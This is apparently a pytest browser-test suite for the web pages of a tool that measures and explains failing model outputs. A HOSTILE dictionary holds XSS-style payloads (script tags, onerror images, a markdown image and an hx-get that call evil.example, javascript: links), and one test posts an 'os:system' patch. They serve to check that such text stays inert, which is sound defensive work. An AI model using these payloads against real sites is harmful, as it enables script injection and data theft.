"""The pages in a real Chromium: every page, the report form to the answer, live runs, keyboard, hostile completions."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from reroll.store import Store
from tests.pages import SECONDS, Served, Tab, browser, needs_chromium, run, served, tab, until

pytestmark = [pytest.mark.browser, needs_chromium]

WORDS = 'I tried "Lunch with Ana next Friday at noon" and it didn\'t work.'


@pytest.fixture(scope="module")
def chromium() -> Iterator[Any]:
    with browser() as started:
        yield started


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project in which one report was measured, its token found, and two fixes tried."""
    folder = tmp_path_factory.mktemp("pages") / "meetings"
    run("init", str(folder))
    at = ("--project", str(folder), "--quiet", "--yes")
    run("investigate", WORDS, "--budget", "900", "--no-fixes", "--seed", "3", *at)
    run("forks", failing(folder), *at)
    run("try", "hard-code", "--case", "next-friday", "--budget", "200", *at)
    run("futures", "next-friday", *at)
    run("phrase", "next-friday", "--tokens", "um so like lunch w/ Ana next Friday at noon", "--budget", "200", *at)
    run(
        "ideas",
        "add",
        "Tell it which week next Friday is in",
        "--case",
        "next-friday",
        "--by",
        "lena",
        "--project",
        str(folder),
    )
    return folder


@pytest.fixture(scope="module")
def server(world: Path) -> Iterator[Served]:
    with served(world) as running:
        yield running


@pytest.fixture
def visit(chromium: Any, server: Served) -> Iterator[Tab]:
    with tab(chromium, server.another_link()) as opened:
        yield opened


def failing(folder: Path, case: str = "next-friday") -> str:
    """A stored failing run of the case as it is."""
    with Store.open(folder / ".reroll" / "store.sqlite") as store:
        stored = store.samples(case_id=case, variant="baseline", source="draw")
        said = store.outcomes([one.id for one in stored])
        return next(one.id for one in stored if any(o.outcome == "fail" for o in said.get(one.id, {}).values()))


def pages(folder: Path) -> dict[str, str]:
    sample = failing(folder)
    return {
        "inbox": "/",
        "report form": "/reports/new",
        "answer": "/cases/next-friday",
        "unmeasured case": "/cases/rambling",
        "samples": "/samples?case=next-friday",
        "groups": "/samples/groups?case=next-friday",
        "all samples": "/samples",
        "sample": f"/samples/{sample}?case=next-friday",
        "tokens": f"/tokens/{sample}",
        "tree": "/cases/next-friday/tree",
        "wordings": "/cases/next-friday/wordings",
        "cause": "/cases/next-friday/cause",
        "life": "/cases/next-friday/life",
        "fixes": "/cases/next-friday/fixes",
        "ideas": "/ideas",
        "ledger": "/ledger",
        "watch": "/watch",
        "project": "/project",
        "settings": "/settings",
        "doctor": "/doctor",
        "jobs": "/jobs",
        "words": "/words",
        "not found": "/nowhere",
    }


def test_a_word_that_is_longer_than_a_phone_is_wide_breaks_wherever_it_stands(chromium: Any, server: Served) -> None:
    with tab(chromium, server.another_link(), width=390) as opened:
        opened.go("/words")
        words = "`<h1>${word}</h1><p>${word}</p><ul><li>${word}</ul>`"
        put = f"(main, word) => main.insertAdjacentHTML('afterbegin', {words})"
        opened.page.eval_on_selector("main", put, "W" * 200)
        opened.fits()


@pytest.mark.parametrize("dark", [False, True], ids=["light", "dark"])
@pytest.mark.parametrize("width", [1280, 390])
def test_every_page_fits_the_screen_is_accessible_and_asks_nothing_of_anybody_else(
    chromium: Any, server: Served, world: Path, width: int, dark: bool
) -> None:
    every = pages(world)
    with tab(chromium, server.another_link(), width=width, dark=dark) as opened:
        for name, path in every.items():
            reply = opened.go(path)
            assert reply.status == (404 if name == "not found" else 200), name
            opened.fits()
            opened.page.eval_on_selector_all("details", "all => all.forEach(one => one.open = true)")
            opened.fits()
            if dark == (width == 1280):  # each width and each scheme once: it takes long
                opened.is_accessible()
        opened.is_clean()


def test_the_answer_says_the_six_sentences_and_shows_the_evidence(visit: Tab) -> None:
    visit.go("/")
    visit.page.click("text=Lunch with Ana next Friday")
    visit.page.wait_for_selector("#reply")
    said = visit.text("#reply")
    assert "the word “next”" in said
    assert "ran this request" in said
    whole = visit.text()
    for question in (
        "What happens if I run it again?",
        "Was it just bad luck?",
        "99 % reliable?",
        "second try worth",
        "Why does it fail?",
    ):
        assert question in whole
    assert visit.page.locator("mark.fail", has_text="next").count() >= 1  # the guilty word, in the request
    visit.is_clean()


def test_where_it_went_wrong_is_said_plainly_first_and_in_numbers_for_engineers(visit: Tab) -> None:
    visit.go("/cases/next-friday")
    assert not re.search(r"token \d|%|points|in \d+ pairs", visit.text("#token") + visit.text("#why"))
    assert visit.page.locator("#token pre mark").count() == 1  # the place, in the answer
    figure = visit.page.locator("#token figure").first
    assert not figure.is_visible()
    visit.page.click("#token summary >> nth=0")
    assert figure.is_visible()
    assert "token" in visit.text("#token .engineers")


def test_every_figure_has_a_table_and_comes_as_svg_png_and_csv(visit: Tab) -> None:
    visit.go("/cases/next-friday")
    figures = visit.page.locator("figure.figure")
    assert figures.count() >= 4
    for i in range(figures.count()):
        figure = figures.nth(i)
        assert figure.locator("table tbody tr").count() >= 1
        links = [a.get_attribute("href") for a in figure.locator(".files a").all()]
        svg, png, table = (visit.page.request.get(visit.base + link) for link in links)
        assert ElementTree.fromstring(svg.text()).tag.endswith("svg")
        assert png.body().startswith(b"\x89PNG")
        assert len(list(csv.reader(io.StringIO(table.text())))) >= 2


def test_running_it_again_shows_it_happening_and_then_the_answer(visit: Tab) -> None:
    visit.go("/cases/half-seven")
    visit.page.click("text=Measure it")
    visit.page.wait_for_selector("[data-job]", timeout=SECONDS)
    visit.page.wait_for_selector(".job-strip i", timeout=SECONDS)  # outcomes arrive one by one
    visit.page.wait_for_selector("#reply", timeout=SECONDS)
    before = visit.page.locator("#again svg circle, #again svg path").count()
    assert before > 0
    visit.page.click("#again button")
    visit.page.wait_for_selector("[data-job]", timeout=SECONDS)
    visit.page.wait_for_selector("main:not(:has([data-job])) #reply", timeout=SECONDS)
    assert "ran this request" in visit.text("#reply")
    visit.is_clean()


def test_anybody_can_report_and_gets_an_answer(visit: Tab) -> None:
    visit.go("/reports/new")
    visit.page.fill("textarea[name='input.request']", "Tea with Lena next Friday at 17:00")
    visit.page.fill("textarea[name=happened]", "It booked this week's Friday, not next week's.")
    visit.page.check("input[value=json]")
    visit.page.fill("input[name=field]", "date")
    visit.page.fill("input[name=expected]", "2026-11-27")
    visit.page.fill("input[name=by]", "Lena")
    visit.page.click("text=Measure it")
    visit.page.wait_for_selector("#reply", timeout=4 * SECONDS)
    assert "It booked this week's Friday" in visit.text("h1")
    assert "ran this request" in visit.text("#reply")
    visit.go("/")
    assert "by Lena" in visit.text()
    visit.is_clean()


def test_where_nobody_can_say_what_is_right_a_person_decides_answer_by_answer(visit: Tab) -> None:
    visit.go("/reports/new")
    visit.page.fill("textarea[name='input.request']", "Breakfast with Omar next Friday at 8:00")
    visit.page.check("input[value=person]")
    visit.page.click("text=Measure it")
    for _ in range(60):
        visit.page.wait_for_selector(".ask, #reply", timeout=4 * SECONDS)
        if visit.page.locator("#reply").count():
            break
        right = '"2026-11-27"' in visit.text(".ask pre")
        with visit.page.expect_navigation():
            visit.page.click("text=Yes, right" if right else "text=No, wrong")
    assert "ran this request" in visit.text("#reply")
    visit.is_clean()


def test_a_page_does_not_move_while_an_answer_is_on_its_way(visit: Tab) -> None:
    visit.go("/reports/new")
    visit.page.fill("textarea[name='input.request']", "Supper with Ben next Friday at 20:00")
    visit.page.check("input[value=person]")
    visit.page.click("text=Measure it")
    visit.page.wait_for_selector(".ask", timeout=4 * SECONDS)
    asked = visit.page.locator(".ask").get_attribute("data-asked")
    assert "in this case a person says what is right" in visit.text(".ask")
    visit.page.evaluate("document.querySelector('.ask form').target = '_blank'")  # the reply comes elsewhere
    with visit.page.context.expect_page() as opened:
        visit.page.click("text=No, wrong")
    visit.page.wait_for_selector("[data-held]")  # the next question has come, and this page was told
    assert visit.page.locator(".ask").get_attribute("data-asked") == asked
    there = opened.value
    there.wait_for_selector(f".ask:not([data-asked='{asked}'])")
    there.click("text=Stop")
    there.wait_for_selector("main:not(:has([data-job]))")
    there.close()
    visit.is_clean()


def test_a_report_that_says_nothing_is_sent_back_with_what_was_typed(visit: Tab) -> None:
    visit.go("/reports/new")
    visit.page.fill("textarea[name='input.request']", "Lunch with <b>Ben</b>")
    visit.page.check("input[value=contains]")
    visit.page.click("text=Measure it")
    visit.page.wait_for_selector(".wrong")
    assert "Say what a right answer has in it" in visit.text(".wrong")
    assert visit.page.input_value("textarea[name='input.request']") == "Lunch with <b>Ben</b>"


def test_samples_are_read_and_labelled_by_keyboard(visit: Tab, world: Path) -> None:
    visit.go("/samples?case=next-friday&outcome=fail")
    first = visit.page.locator("ol.samples > li").first
    id = first.get_attribute("data-sample")
    visit.page.keyboard.press("j")
    assert "here" in (first.get_attribute("class") or "")
    with visit.page.expect_response(re.compile("/label$")):
        visit.page.keyboard.press("f")
    first.locator("text=a person says fail").wait_for()
    kept = [json.loads(line) for line in (world / "labels.jsonl").read_text().splitlines()]
    assert {"sample": id, "outcome": "fail"}.items() <= kept[-1].items()
    visit.page.keyboard.press("k")
    visit.page.keyboard.press("Enter")
    visit.page.wait_for_url(re.compile(f"/samples/{id}"))
    visit.page.wait_for_selector("html[data-ready]")
    visit.page.keyboard.press("j")
    visit.page.wait_for_url(re.compile("/samples/s_(?!" + str(id)[2:] + ")"))
    visit.is_clean()


def test_tokens_say_what_else_could_have_stood_there(visit: Tab, world: Path) -> None:
    visit.go(f"/tokens/{failing(world)}")
    dud = visit.page.locator(".strip .tok.dud")
    assert dud.inner_text() == "20"
    dud.hover()
    assert "“27”" in visit.text("#tip")
    fared = re.findall(
        r"(\d+) of (\d+) that went on so were right, (\d+) of (\d+) that went another", visit.text("#tip")
    )
    right, runs, others_right, others = map(int, fared[0])
    assert right / runs < others_right / others
    visit.page.locator(".strip").focus()
    visit.page.keyboard.press("ArrowLeft")
    assert visit.page.locator(".tok.here").inner_text() == "2026-11-"


def test_an_idea_goes_from_words_to_a_blind_trial(visit: Tab, world: Path) -> None:
    visit.go("/ideas")
    visit.page.fill("textarea[name=idea]", "Say that next Friday is the one of next week")
    visit.page.fill("aside input[name=by]", "Omar")
    visit.page.select_option("select[name=case]", "next-friday")
    visit.page.click("text=Put it in the box")
    visit.page.wait_for_selector("li:has-text('Say that next Friday')")
    idea = visit.page.locator("li", has_text="Say that next Friday")
    idea.locator("summary", has_text="Write it as a change").click()
    idea.locator("select[name=kind]").select_option("field.describe")
    idea.locator("input[name=target]").fill("response.date.description")
    idea.locator("textarea[name=text]").fill("ISO date. Next Friday is the Friday of next week.")
    idea.locator("button", has_text="Keep the change").click()
    visit.page.wait_for_selector("text=to be confirmed by Omar")
    idea = visit.page.locator("li", has_text="Say that next Friday")
    idea.locator("input[name=by]").fill("Somebody else")
    idea.locator("button", has_text="that is what I meant").click()
    assert "Only Omar knows" in visit.text()
    visit.go("/ideas")
    idea = visit.page.locator("li", has_text="Say that next Friday")
    idea.locator("input[name=by]").fill("omar")
    idea.locator("button", has_text="that is what I meant").click()
    visit.page.wait_for_selector("text=ready to be tried")
    assert visit.page.locator("button", has_text="Try it, blind").count() == 1


def test_no_code_comes_from_a_page(visit: Tab) -> None:
    visit.go("/ideas")
    mark = visit.page.locator("input[name=mark]").first.get_attribute("value")
    yaml = "kind: patch.python\ntarget: output\nfunction: 'os:system'"
    reply = visit.page.request.post(
        visit.base + "/ideas/1/fix", form={"mark": mark, "yaml": yaml}, headers={"origin": visit.base}
    )
    assert reply.status in (400, 422)
    assert "never from a page" in reply.text() or "no fix" in reply.text()


HOSTILE = {
    "script": "</pre></main><script>window.hacked=1</script>",
    "image": "<img src=x onerror=window.hacked=1> ![](http://evil.example/leak?q=1)",
    "attributes": "<div hx-get=http://evil.example hx-trigger=load style=position:fixed>x</div>",
    "address": "javascript:window.hacked=1 [x](javascript:window.hacked=1)",
    "right to left": "abc \u202e txt.exe \u2066 end",
    "control": "a\x00b\x1b[31mred\x07\x9f",
    "template": "{{ 7*7 }} {% raw %} ${7*7}",
    "one long line": "x" * 1_000_000,
}


def test_hostile_completions_are_inert_text_on_every_page_that_shows_them(chromium: Any, tmp_path: Path) -> None:
    folder = tmp_path / "hostile"
    folder.mkdir()
    (folder / "program.yaml").write_text('program: hostile\nmodel: recorded:runs.jsonl\nsystem: "Be <b>kind</b>."\n')
    (folder / "cases.yaml").write_text(
        'cases:\n- id: evil\n  input: {request: "<script>window.hacked=1</script>"}\n  checks:\n  - contains: fine\n'
    )
    rows = [
        {
            "case_id": "evil",
            "run": i,
            "model": "m",
            "params": {},
            "messages": [{"role": "user", "content": text[:1000]}],
            "completion": text,
        }
        for i, text in enumerate(HOSTILE.values())
    ]
    runs = tmp_path / "runs.jsonl"
    runs.write_text("\n".join(map(json.dumps, rows)) + "\n")
    run("import", str(runs), "--project", str(folder))
    with Store.open(folder / ".reroll" / "store.sqlite") as store:
        ids = [one.id for one in store.samples(case_id="evil")]
    assert len(ids) == len(HOSTILE)
    paths = [
        "/",
        "/samples",
        "/samples?case=evil",
        "/cases/evil",
        "/cases/evil/tree",
        "/project",
        *(f"/samples/{id}" for id in ids),
        *(f"/tokens/{id}" for id in ids),
    ]
    paths.append(f"/samples/{ids[0]}/against/{ids[1]}")
    with served(folder) as running, tab(chromium, running.link) as opened:
        for path in paths:
            assert opened.go(path).status == 200, path
            assert opened.page.evaluate("() => window.hacked") is None, path
            assert opened.page.locator("main script, main img, main [hx-get]").count() == 0, path
            assert "49" not in opened.page.locator("pre.said").all_inner_texts(), path
            opened.fits()
        opened.go(f"/samples/{ids[4]}")
        assert "<U+202E>" in opened.text()
        opened.is_clean()


def test_pages_and_the_report_form_work_without_scripts(chromium: Any, server: Served) -> None:
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(server.another_link())
    page.click("text=Something didn't work")
    page.fill("textarea[name='input.request']", "Coffee with Ana next Friday at 9:00")
    page.check("input[value=contains]")
    page.fill("input[name=expected]", "2026-11-27")
    page.click("text=Measure it")
    page.wait_for_url(re.compile("/reports/"))
    assert "Measuring what was reported" in page.inner_text("main") or page.locator("#reply").count()
    context.close()


def test_a_job_outlives_a_killed_server_and_the_next_one_shows_it(chromium: Any, tmp_path: Path) -> None:
    folder = tmp_path / "meetings"
    run("init", str(folder))
    with served(folder) as first, tab(chromium, first.link) as opened:
        opened.go("/cases/next-friday/fixes")
        opened.page.click("text=Try describe-date")
        opened.page.wait_for_selector("[data-job][data-ready=running]", timeout=SECONDS)
        first.process.kill()
        first.process.wait(20)
        with served(folder) as second, tab(chromium, second.link) as again:
            again.go("/cases/next-friday/fixes")
            assert again.page.locator("[data-job]").count() == 1
            again.page.click("text=Stop")
            again.page.wait_for_selector("main:not(:has([data-job]))", timeout=SECONDS)
            again.go("/jobs")
            assert "stopped" in again.text()


# -- every button ------------------------------------------------------------------------------------------------------

JOBS = {  # what a button starts, and where it stands
    "rerun": "/cases/next-friday",
    "certify": "/cases/clear-friday",
    "cause": "/cases/next-friday",
    "futures": "/cases/next-friday",
    "audit": "/cases/next-friday",
    "phrase": "/cases/next-friday",
    "neighbours": "/cases/next-friday",
    "words": "/cases/next-friday/wordings",
    "try": "/cases/next-friday/fixes",
    "surprise": "/tokens/SAMPLE",
    "forks": "/tokens/OTHER",
    "investigate": "/cases/rambling",
}
OTHERS = {  # the other forms' buttons: pressed by the tests of this file, by name
    "/enter": "comes_in_by_the_door",
    "/name": "settings",
    "/leave": "settings",
    "/settings/tokens": "settings",
    "/settings/tokens/*/revoke": "settings",
    "/reports": "anybody_can_report",
    "/reports/*/marks": "status_and_owner",
    "/jobs/*/stop": "outlives_a_killed_server",
    "/jobs/*/answer": "person_decides",
    "/samples/*/label": "one_run_is_labelled_by_its_buttons",
    "/ideas": "idea_goes_from_words",
    "/ideas/*/fix": "idea_goes_from_words",
    "/ideas/*/confirm": "idea_goes_from_words",
}
FORMS = """() => [...document.querySelectorAll("main form")].map((form) => [
  new URL(form.action).pathname, form.method, form.elements.namedItem("do")?.value || ""])"""


@pytest.fixture(scope="module")
def playing(world: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Served]:
    """A copy of the world to press buttons in, each job at most 60 calls."""
    folder = tmp_path_factory.mktemp("buttons") / "meetings"
    shutil.copytree(world, folder)
    run("rerun", "clear-friday", "--budget", "10", "--seed", "7", "--project", str(folder), "--quiet", "--yes")
    with served(folder, "--budget", "60") as running:
        yield running


def test_no_button_is_forgotten(chromium: Any, playing: Served) -> None:
    found: set[str] = set()
    jobs: set[str] = set()
    with tab(chromium, playing.another_link()) as visit:
        for path in pages(playing.folder).values():
            visit.go(path)
            for action, method, do in visit.page.evaluate(FORMS):
                if method != "post":
                    continue
                if action == "/jobs":
                    jobs.add(do)
                else:
                    found.add(re.sub(r"(/(?:ideas|reports|jobs|samples|settings/tokens))/[^/]+/", r"\1/*/", action))
    assert jobs <= set(JOBS), jobs - set(JOBS)
    assert found <= set(OTHERS), found - set(OTHERS)
    tests = " ".join(name for name in globals() if name.startswith("test_"))
    assert all(words in tests for words in OTHERS.values())


def test_whether_a_target_is_met_is_not_offered_once_it_is_decided(chromium: Any, playing: Served) -> None:
    with tab(chromium, playing.another_link()) as visit:
        visit.go("/cases/next-friday")
        assert "not met" in visit.text("#reliable")
        assert visit.page.locator("#reliable form").count() == 0
        visit.go("/cases/clear-friday")
        assert "Can we say 99 %?" in visit.text("#reliable")


def test_every_button_that_starts_a_job_leaves_a_finding_that_can_be_read(chromium: Any, playing: Served) -> None:
    folder = playing.folder
    shown = failing(folder)
    with Store.open(folder / ".reroll" / "store.sqlite") as store:
        drawn = [one.id for one in store.samples(case_id="next-friday", variant="baseline", source="draw")]
        said = store.outcomes(drawn)
        fails = [id for id in drawn if any(o.outcome == "fail" for o in said.get(id, {}).values())]
        other = next(id for id in fails if not store.findings(command="forks", sample_id=id))
    with tab(chromium, playing.another_link()) as visit:
        asked = {}
        for do, place in JOBS.items():
            visit.go(place.replace("SAMPLE", shown).replace("OTHER", other))
            form = visit.page.locator(f"form:has(input[name=do][value={do}])").first
            if do == "words":
                form.locator("textarea").fill("lunch with ana, friday next week, at noon")
            with visit.page.expect_navigation():
                form.locator("button").click()
            asked[do] = re.search(r"[?&]job=([^&#]+)", visit.page.url) or re.search(r"/jobs/([^?#]+)", visit.page.url)
        assert all(asked.values()), asked
        with Store.open(folder / ".reroll" / "store.sqlite") as store:
            ids = {do: match[1] for do, match in asked.items() if match}
            visit.go("/cases/next-friday/wordings")  # whatever page shows a job shows what it asks
            visit.page.wait_for_selector(".ask", timeout=4 * SECONDS)
            visit.page.click("text=Go on without an answer")
            until(lambda: all(store.job(id).state in ("done", "failed") for id in ids.values()), 300)
            ended = {do: store.job(id) for do, id in ids.items()}
        for do, job in ended.items():
            assert job.state == "done", (do, job.message)
            assert job.finding_id, do
            visit.go(f"/findings/{job.finding_id}?whole=yes")
            visit.fits()
            assert len(visit.text()) > 100, do
            visit.go(f"/findings/{job.finding_id}")  # or the page that shows it best
            visit.fits()
        visit.is_clean()


def test_a_confirmed_idea_is_tried_blind_and_its_verdict_is_shown(chromium: Any, playing: Served) -> None:
    at = ("--project", str(playing.folder))
    fix = playing.folder.parent / "which-friday.yaml"
    fix.write_text(
        "fix: which-friday\nkind: field.describe\ntarget: response.date.description\n"
        'text: "ISO date. Next Friday is the Friday of next week."\n'
    )
    run("ideas", "add", "Say which Friday", "--case", "next-friday", "--by", "Omar", *at)
    number = str((playing.folder / "ideas.yaml").read_text().count("idea:"))
    run("ideas", "write", number, "--fix", str(fix), *at)
    run("ideas", "confirm", number, "--by", "Omar", *at)
    with tab(chromium, playing.another_link()) as visit:
        visit.go("/ideas")
        one = visit.page.locator("ol.rows > li", has_text="Say which Friday")
        one.locator("button", has_text="Try it, blind").click()
        visit.page.wait_for_selector("li:has-text('Say which Friday') .badge:has-text('tried')", timeout=4 * SECONDS)
        assert "Omar" in visit.text()
        visit.is_clean()


def test_status_and_owner_of_a_report_are_kept(chromium: Any, playing: Served) -> None:
    with tab(chromium, playing.another_link()) as visit:
        visit.go("/")
        visit.page.click("text=Lunch with Ana next Friday")
        visit.page.select_option("select[name=status]", "looking into it")
        visit.page.fill("input[name=owner]", "Ana <b>B</b>")
        with visit.page.expect_navigation():
            visit.page.click("#report button")
        assert visit.page.input_value("select[name=status]") == "looking into it"
        visit.go("/")
        assert "Ana <b>B</b>" in visit.text()
        assert "looking into it" in visit.text()
        visit.is_clean()


def test_one_run_is_labelled_by_its_buttons(chromium: Any, playing: Served) -> None:
    sample = failing(playing.folder)
    with tab(chromium, playing.another_link()) as visit:
        visit.go(f"/samples/{sample}")
        for button, word in (("Right (p)", "pass"), ("I cannot tell (u)", "unsure"), ("Wrong (f)", "fail")):
            with visit.page.expect_navigation():
                visit.page.click(f"form[data-labels] button:has-text('{button}')")
            assert f"says {word}" in visit.text("p[data-label]")
        visit.is_clean()


def test_settings_make_a_token_that_a_colleague_comes_in_by_the_door_with_until_it_is_revoked(
    chromium: Any, playing: Served
) -> None:
    with tab(chromium, playing.another_link()) as owner:
        owner.go("/settings")
        owner.page.fill("input[name=name] >> nth=0", "Lena")
        with owner.page.expect_navigation():
            owner.page.click("form[action='/name'] button")
        assert "Lena" in owner.text("header")
        form = owner.page.locator("form[action='/settings/tokens']")
        form.locator("input[name=max_usd]").fill("a lot")
        form.locator("input[name=name]").fill("Ben")
        form.locator("button").click()
        owner.page.wait_for_selector(".wrong:has-text('is no amount of dollars')")
        form.locator("input[name=name]").fill("Ben")
        form.locator("input[name=max_usd]").fill("2")
        form.locator("button").click()
        owner.page.wait_for_selector("#secret")
        secret = owner.text("#secret")
        context = chromium.new_context()
        guest = context.new_page()
        guest.goto(owner.base + "/settings")
        guest.fill("input[type=password], input[name=token]", "wrong")
        with guest.expect_navigation():
            guest.click("button:has-text('Come in')")
        assert "Come in" in guest.inner_text("main")
        guest.fill("input[type=password], input[name=token]", secret)
        with guest.expect_navigation():
            guest.click("button:has-text('Come in')")
        guest.goto(owner.base + "/settings")
        assert "access token of Ben" in guest.inner_text("main")
        assert not guest.locator("form[action='/settings/tokens']").count()
        guest.goto(owner.base + "/cases/next-friday")
        assert guest.locator("form.do button").count() > 3
        assert all(one.is_disabled() for one in guest.locator("form.do button").all())
        for path in (f"/samples/{failing(playing.folder)}", "/ideas", "/cases/next-friday"):
            guest.goto(owner.base + path)
            assert all(one.is_disabled() for one in guest.locator("main form[method=post] button").all()), path
        owner.go("/settings")
        with owner.page.expect_navigation():
            owner.page.locator("tr", has_text="Ben").locator("button", has_text="Revoke").click()
        assert "revoked" in owner.text("table")
        guest.goto(owner.base + "/cases/next-friday")
        assert "Come in" in guest.inner_text("main")
        context.close()
        owner.go("/settings")
        owner.page.click("text=Leave these pages")
        owner.page.wait_for_selector("text=Come in")
        owner.is_clean()


@pytest.mark.parametrize(("path", "button"), [("/cases/next-friday", "Copy the reply"), ("/doctor", "Copy")])
def test_what_is_copied_is_what_is_shown(chromium: Any, playing: Served, path: str, button: str) -> None:
    allowed = ["clipboard-read", "clipboard-write"]
    with tab(chromium, playing.another_link(), permissions=allowed) as visit:
        visit.go(path)
        pressed = visit.page.locator("button[data-copy]", has_text=button)
        shown = visit.text("#" + str(pressed.get_attribute("data-copy")))
        pressed.click()
        visit.page.wait_for_selector("button[data-copy]:has-text('Copied')")
        assert visit.page.evaluate("navigator.clipboard.readText()") == shown
        visit.is_clean()
